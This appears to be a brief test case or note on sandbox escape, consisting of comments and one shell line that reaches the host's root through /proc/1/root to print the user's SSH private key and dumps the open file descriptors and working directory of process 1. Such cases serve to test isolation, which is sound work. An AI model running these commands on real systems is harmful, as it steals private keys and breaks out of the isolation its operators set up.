# The first process leads neither to HOME nor to open files.
# Source: the first attacks
# Escape: the key is printed
cat "/proc/1/root$HOME/.ssh/id_rsa"; ls -la /proc/1/fd /proc/1/cwd/; cat /proc/1/fd/*
